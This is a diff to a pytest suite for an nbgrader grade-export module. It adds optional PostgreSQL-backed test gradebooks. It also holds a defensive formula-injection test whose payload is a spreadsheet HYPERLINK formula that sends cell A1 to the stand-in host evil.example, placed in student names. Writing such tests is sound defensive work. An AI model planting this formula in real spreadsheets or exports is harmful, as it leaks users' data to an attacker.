@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 from nbgrader.api import Gradebook
 from nbgrader.plugins import CsvExportPlugin
+from postgres import with_database
 from tiny_course import RIGHT, WRONG, A, tiny_room
 
 from grading import export as module
@@ -33,9 +34,9 @@ DUE = datetime(2026, 3, 1, 12)
 class Book:
     """A gradebook without notebooks: scores are put in as grading would have."""
 
-    def __init__(self, root: Path) -> None:
+    def __init__(self, root: Path, like: str = "") -> None:
         self.root = root
-        self.api = open_course(root)
+        self.api = open_course(root, with_database(like=like))
 
     def assignment(self, name: str, points: float = 10, due: datetime | None = None) -> None:
         """Add an assignment of two notebooks; the second one has two cells."""
@@ -102,17 +103,18 @@ def scores_of(rows: list[list[str]], id_column: int = 3, first: int = 5) -> dict
 
 
 @pytest.fixture(scope="module")
-def fresh_gradebook(tmp_path_factory) -> Path:
+def fresh(tmp_path_factory) -> Book:
     """A gradebook with one assignment: making one takes nbgrader seconds, a copy none."""
-    root = tmp_path_factory.mktemp("fresh")
-    Book(root).assignment("early")
-    return root / "gradebook.db"
+    book = Book(tmp_path_factory.mktemp("fresh"))
+    book.assignment("early")
+    return book
 
 
 @pytest.fixture
-def book(tmp_path, fresh_gradebook) -> Book:
-    shutil.copy(fresh_gradebook, tmp_path)
-    return Book(tmp_path)
+def book(tmp_path, fresh) -> Book:
+    if (fresh.root / "gradebook.db").exists():
+        shutil.copy(fresh.root / "gradebook.db", tmp_path)
+    return Book(tmp_path, like=fresh.api.coursedir.db_url)
 
 
 LMS_FILES = {
@@ -342,6 +344,8 @@ def test_odd_names_come_through(book, last, first):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\x00="])
 @pytest.mark.parametrize("style", STYLES)
 def test_names_never_are_formulas(book, style, start):
+    if start[0] == "\x00" and "postgresql" in book.api.coursedir.db_url:
+        pytest.skip("PostgreSQL takes no such character")
     attack = f'{start}HYPERLINK("http://evil.example?x="&A1,"me")'
     book.student("ada", attack, attack, attack)
     book.grade("ada", "early", 5, 2.5, 2.5)
